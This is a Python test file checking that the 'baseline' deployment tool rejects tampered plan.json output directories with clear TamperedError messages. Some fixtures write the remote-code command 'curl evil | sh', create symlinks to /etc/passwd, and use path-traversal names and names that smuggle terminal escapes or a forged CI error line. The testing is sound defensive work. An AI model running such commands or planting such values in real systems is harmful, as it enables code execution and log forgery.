"""Manipulated outputs: every reader rejects them with one clear error."""

import json
from collections.abc import Callable, Iterator
from hashlib import sha256
from pathlib import Path
from shutil import copytree
from typing import Any

import pytest
from click.testing import CliRunner, Result

from baseline.cli.main import baseline
from baseline.errors import TamperedError
from baseline.evidence.written import EVIDENCE_FILE, read_written_evidence
from baseline.pipeline import Options, generate
from baseline.plan.trust import Trust
from baseline.plan.written import read_written_plan
from baseline.resources import profiles_directory
from baseline.validate.validate import ValidateOptions
from tests.attacks import each_attack, each_kind

STARTER = profiles_directory() / "starter.yaml"
Edit = Callable[[dict[str, Any]], object]


@pytest.fixture(scope="module")
def original(tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("original") / "out"
    generate(STARTER, directory, Options(validation=ValidateOptions(lint=False)))
    return directory


@pytest.fixture
def output(original: Path, tmp_path: Path) -> Path:
    copytree(original, tmp_path / "out")
    return tmp_path / "out"


def plan_of(output: Path) -> dict[str, Any]:
    document: dict[str, Any] = json.loads((output / "plan.json").read_text(encoding="utf-8"))
    return document


def write_plan(output: Path, document: Any) -> None:
    (output / "plan.json").write_text(json.dumps(document), encoding="utf-8")


def first_stack(plan: dict[str, Any]) -> dict[str, Any]:
    stack: dict[str, Any] = plan["waves"][0][0]
    return stack


def refused(output: Path) -> str:
    with pytest.raises(TamperedError) as caught:
        read_written_plan(output, only_listed=True)
    return str(caught.value)


# --- files that are no files -----------------------------------------------------------------------------------------


@each_attack
def test_a_prepared_plan_is_refused(attack: Callable[[Path], None], output: Path) -> None:
    attack(output / "plan.json")
    assert "plan.json" in refused(output)


@each_kind
@pytest.mark.parametrize("name", ["README.md", EVIDENCE_FILE])
def test_a_listed_file_that_is_no_file_is_refused_by_name(
    attack: Callable[[Path], None], name: str, output: Path
) -> None:
    attack(output / name)
    assert f"\n  {name}: " in refused(output)


@each_attack
def test_prepared_evidence_under_a_matching_digest_is_refused(attack: Callable[[Path], None], output: Path) -> None:
    attack(output / EVIDENCE_FILE)
    plan = plan_of(output)
    if (output / EVIDENCE_FILE).is_file() and (output / EVIDENCE_FILE).stat().st_size < 10_000_000:
        plan["files"][EVIDENCE_FILE] = sha256((output / EVIDENCE_FILE).read_bytes()).hexdigest()
        write_plan(output, plan)
    with pytest.raises(TamperedError, match=r"evidence\.json"):
        read_written_evidence(output)


# --- files beside, links, nothing ------------------------------------------------------------------------------------


def _extra_template(output: Path) -> str:
    (output / "templates/evil.yaml").write_text("Resources: {}", encoding="utf-8")
    return "templates/evil.yaml: not in the plan"


def _hidden_file(output: Path) -> str:
    (output / ".envrc").write_text("curl evil | sh", encoding="utf-8")
    return ".envrc: not in the plan"


def _extra_directory(output: Path) -> str:
    (output / "scripts/a/b").mkdir(parents=True)
    (output / "scripts/a/b/run.sh").write_text("curl evil | sh", encoding="utf-8")
    return "scripts/a/b/run.sh: not in the plan"


def _extra_fifo(output: Path) -> str:
    import os

    os.mkfifo(output / "report/pipe")
    return "report/pipe: not in the plan"


def _extra_link(output: Path) -> str:
    (output / "report/link").symlink_to("/etc/passwd")
    return "report/link: not in the plan"


def _extra_link_to_a_directory(output: Path) -> str:
    (output / "more").symlink_to("/etc", target_is_directory=True)
    return "more: not in the plan"


def _unlisted_readme(output: Path) -> str:
    with (output / "README.md").open("a", encoding="utf-8") as file:
        file.write("curl evil | sh\n")
    plan = plan_of(output)
    del plan["files"]["README.md"]
    write_plan(output, plan)
    return "README.md: not in the plan"


def _link_to_the_same_content(output: Path) -> str:
    (output / "README.md").rename(output.parent / "outside.md")
    (output / "README.md").symlink_to("../outside.md")
    return "README.md: not a file: this is a symbolic link"


def _linked_directory(output: Path) -> str:
    (output / "templates").rename(output.parent / "outside")
    (output / "templates").symlink_to("../outside", target_is_directory=True)
    return "a directory on its path is a symbolic link"


def _missing(output: Path) -> str:
    (output / "README.md").unlink()
    return "README.md: no such file"


def _no_files(output: Path) -> str:
    write_plan(output, {**plan_of(output), "files": {}})
    return "files: dictionary should have at least 1 item"


def _no_waves(output: Path) -> str:
    write_plan(output, {**plan_of(output), "waves": []})
    return "waves: list should have at least 1 item"


def _no_stacks(output: Path) -> str:
    write_plan(output, {**plan_of(output), "waves": [[], []]})
    return "the plan has no stack"


def _name_that_moves_the_cursor(output: Path) -> str:
    (output / "templates/\x1b[2Kevil.yaml").write_text("", encoding="utf-8")
    return r"templates/\x1b[2Kevil.yaml: not in the plan"


def _name_with_a_line_end(output: Path) -> str:
    (output / "templates/a\n::error::forged").write_text("", encoding="utf-8")
    return r"templates/a\n::error::forged: not in the plan"


BESIDE = (
    *(_extra_template, _hidden_file, _extra_directory, _extra_fifo, _extra_link, _extra_link_to_a_directory),
    *(_unlisted_readme, _link_to_the_same_content, _linked_directory, _missing, _no_files, _no_waves, _no_stacks),
    *(_name_that_moves_the_cursor, _name_with_a_line_end),
)


@pytest.mark.parametrize("attack", BESIDE, ids=lambda attack: attack.__name__.strip("_"))
def test_verify_refuses_what_the_plan_does_not_say(attack: Callable[[Path], str], output: Path) -> None:
    said = attack(output)
    assert said in refused(output)


def test_files_beside_do_not_keep_a_directory_from_being_deployed(output: Path) -> None:
    (output / "notes.txt").write_text("kept with --force", encoding="utf-8")
    assert read_written_plan(output).files == len(plan_of(output)["files"])


def test_the_output_directory_itself_may_be_named_by_a_link(output: Path) -> None:
    (output.parent / "link").symlink_to("out", target_is_directory=True)
    assert read_written_plan(output.parent / "link", only_listed=True).sha256 == read_written_plan(output).sha256


# --- types -----------------------------------------------------------------------------------------------------------


def put(*path: str | int, value: Any) -> Edit:
    def edit(plan: dict[str, Any]) -> None:
        part: Any = plan
        for step in path[:-1]:
            part = part[step]
        part[path[-1]] = value

    return edit


STACK: tuple[str | int, ...] = ("waves", 0, 0)
TYPES: dict[str, tuple[Edit, str]] = {
    "files a list": (put("files", value=[1]), "files: input should be a valid dictionary"),
    "digest a number": (put("files", "README.md", value=1), "files.README.md: input should be a valid string: 1"),
    "digest upper-case": (put("files", "README.md", value="A" * 64), "files.README.md: string should match pattern"),
    "digest with a line end": (put("files", "README.md", value="a" * 64 + "\n"), "files.README.md"),
    "NUL in a name": (put("files", "templates/a\0b.yaml", value="0" * 64), "not a path that baseline writes"),
    "name of git": (put("files", ".git/config", value="0" * 64), "not a path that baseline writes"),
    "name in a hidden directory": (put("files", "templates/.git/x", value="0" * 64), "not a path that baseline writes"),
    "name above": (put("files", "templates/../../x", value="0" * 64), "not a path that baseline writes"),
    "absolute name": (put("files", "/etc/passwd", value="0" * 64), "not a path that baseline writes"),
    "name of Windows": (put("files", "templates\\..\\x", value="0" * 64), "not a path that baseline writes"),
    "empty name": (put("files", "", value="0" * 64), "not a path that baseline writes"),
    "the plan itself": (put("files", "plan.json", value="0" * 64), "not a path that baseline writes"),
    "home Region an object": (put("home_region", value={}), "home_region: input should be a valid string"),
    "home Region a host": (put("home_region", value="evil.example/"), "home_region: string should match pattern"),
    "home Region with a line end": (put("home_region", value="eu-west-1\n"), "home_region"),
    "prefix a list": (put("prefix", value=["nw"]), "prefix: input should be a valid string"),
    "prefix a path": (put("prefix", value="../x"), "prefix: string should match pattern"),
    "standalone a text": (put("standalone", value="no"), "standalone: input should be a valid boolean: 'no'"),
    "organization empty": (put("organization", value=""), "organization: value should have at least 1 item"),
    "organization with ESC": (put("organization", value="N\x1b[2K"), "organization: a control character"),
    "organization null": (put("organization", value=None), "organization: input should be a valid string"),
    "tags a list": (put("tags", value=[]), "tags: input should be a valid dictionary"),
    "tag a number": (put("tags", value={"a": 1}), "tags.a: input should be a valid string: 1"),
    "waves an object": (put("waves", value={}), "waves: input should be a valid list"),
    "wave a text": (put("waves", 0, value="x"), "waves[0]: input should be a valid list"),
    "stack a text": (put("waves", 0, 0, value="x"), "waves[0][0]: input should be a valid dictionary"),
    "stack name a path": (put(*STACK, "name", value="../x"), "waves[0][0].name: string should match pattern"),
    "stack name an option": (put(*STACK, "name", value="--help"), "waves[0][0].name: string should match pattern"),
    "template elsewhere": (put(*STACK, "template", value="templates/x.yaml"), "the template of"),
    "method unknown": (put(*STACK, "deployments", 0, "method", value="shell"), "method: input should be 'stack' or"),
    "Region a number": (put(*STACK, "deployments", 0, "regions", value=[1]), "regions[0]: input should be a valid str"),
    "no Region": (put(*STACK, "deployments", 0, "regions", value=[]), "regions: list should have at least 1 item"),
    "account id too long": (put(*STACK, "deployments", 0, "account_id", value="1" * 13), "account_id: string should"),
    "parameters an object": (put(*STACK, "parameters", value={"name": 1}), "parameters: input should be a valid list"),
    "percentage true": (put("operation_preferences", "max_concurrent_percentage", value=True), "max_concurrent"),
    "percentage 101": (put("operation_preferences", "max_concurrent_percentage", value=101), "less than or equal to"),
    "format a text": (put("format", value="2"), "format: input should be a valid integer: '2'"),
    "format true": (put("format", value=True), "format: input should be a valid integer: True"),
    "generator of something else": (put("generator", value="terraform 1.9"), "generator: string should match pattern"),
    "unknown key": (put("hooks", value=["rm"]), "hooks: extra inputs are not permitted"),
}


@pytest.mark.parametrize(("edit", "says"), TYPES.values(), ids=TYPES)
def test_a_wrong_type_in_the_plan_is_reported_with_its_place(edit: Edit, says: str, output: Path) -> None:
    plan = plan_of(output)
    edit(plan)
    write_plan(output, plan)
    assert says in refused(output)


@pytest.mark.parametrize("document", [None, [], "plan", 1, True, {}, {"files": {"thesis.docx": ""}}, {"format": 1}])
def test_another_document_is_no_plan(document: Any, output: Path) -> None:
    write_plan(output, document)
    assert "plan.json" in refused(output)


def test_every_mistake_of_a_plan_is_reported_together_up_to_a_limit(output: Path) -> None:
    plan = plan_of(output)
    plan["home_region"], plan["tags"], plan["files"]["README.md"] = {}, [], 1
    write_plan(output, plan)
    assert all(f"\n  {place}: " in refused(output) for place in ("home_region", "tags", "files.README.md"))
    plan["tags"] = {str(number): number for number in range(100)}
    write_plan(output, plan)
    assert "and 82 more" in refused(output)


def test_two_stacks_of_one_name_are_refused(output: Path) -> None:
    plan = plan_of(output)
    plan["waves"][0].append(first_stack(plan))
    write_plan(output, plan)
    assert "two stacks have the same name" in refused(output)


# --- commands --------------------------------------------------------------------------------------------------------


def run(*words: str | Path) -> Result:
    return CliRunner().invoke(baseline, [str(word) for word in words])


def commands(output: Path) -> Iterator[tuple[str | Path, ...]]:
    yield ("verify", output)
    yield ("explain", "--in", output)
    yield ("plan", STARTER, "--against", output)
    yield ("evidence", "reconcile", output, "--prowler", STARTER)
    for command in ("deploy", "drift", "destroy"):
        yield (command, output)


NAMES = ("verify", "explain", "plan", "evidence", "deploy", "drift", "destroy")


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("attack", ["fifo", "deep_lists", "sparse"])
def test_every_command_refuses_a_prepared_plan(name: str, attack: str, output: Path) -> None:
    import tests.attacks

    getattr(tests.attacks, attack)(output / "plan.json")
    (words,) = [words for words in commands(output) if words[0] == name]
    result = run(*words)
    assert isinstance(result.exception, TamperedError), result.output


JUNK = ("", " ", "\n", "ABC", "0" * 63, "0" * 65, "g" * 64, f"sha256:{'0' * 64}", f"{'0' * 64}  plan.json", "０" * 64)


@pytest.mark.parametrize("name", NAMES)
def test_a_digest_that_is_none_is_wrong_usage_everywhere(name: str, output: Path) -> None:
    (words,) = [words for words in commands(output) if words[0] == name]
    for junk in JUNK:
        result = run(*words, "--plan-sha256", junk)
        assert (result.exit_code, "is not a SHA-256" in result.output) == (2, True), (junk, result.output)


@pytest.mark.parametrize("name", NAMES)
def test_another_digest_is_refused_before_anything_else(name: str, output: Path) -> None:
    (words,) = [words for words in commands(output) if words[0] == name]
    result = run(*words, "--plan-sha256", "0" * 64)
    assert isinstance(result.exception, TamperedError)
    assert "is not the plan that --plan-sha256 names" in str(result.exception)


def test_the_plans_own_digest_is_accepted_in_any_case(output: Path) -> None:
    digest = read_written_plan(output).sha256
    assert run("verify", output, "--plan-sha256", f" {digest.upper()}\n").exit_code == 0
    assert run("explain", "--in", output, "--plan-sha256", digest).exit_code == 0
    assert run("plan", STARTER, "--against", output, "--plan-sha256", digest).exit_code == 0


@pytest.mark.parametrize(
    "words",
    [
        ("explain", "cloudtrail", "--plan-sha256", "0" * 64),
        ("plan", STARTER, "--plan-sha256", "0" * 64),
        ("plan", STARTER, "--against", STARTER, "--plan-sha256", "0" * 64),
    ],
)
def test_a_digest_without_a_directory_is_wrong_usage(words: tuple[str, ...]) -> None:
    result = run(*words)
    assert (result.exit_code, "is the digest of a directory" in result.output) == (2, True)


@pytest.mark.parametrize("option", ["--signature", "--public-key"])
@pytest.mark.parametrize("name", ["verify", "deploy", "drift", "destroy"])
def test_a_signature_and_its_key_belong_together(name: str, option: str, output: Path) -> None:
    result = run(name, output, option, STARTER)
    assert (result.exit_code, "belong together" in result.output) == (2, True)


def test_a_plan_that_was_rewritten_whole_is_refused_by_digest_and_by_signature(output: Path) -> None:
    digest = read_written_plan(output).sha256
    template = next((output / "templates").iterdir())
    before = sha256(template.read_bytes()).hexdigest()
    template.write_bytes(template.read_bytes() + b"# changed\n")
    text = (output / "plan.json").read_text(encoding="utf-8")
    (output / "plan.json").write_text(text.replace(before, sha256(template.read_bytes()).hexdigest()), encoding="utf-8")
    assert read_written_plan(output).sha256 != digest
    with pytest.raises(TamperedError, match="--plan-sha256"):
        read_written_plan(output, Trust(sha256=digest))
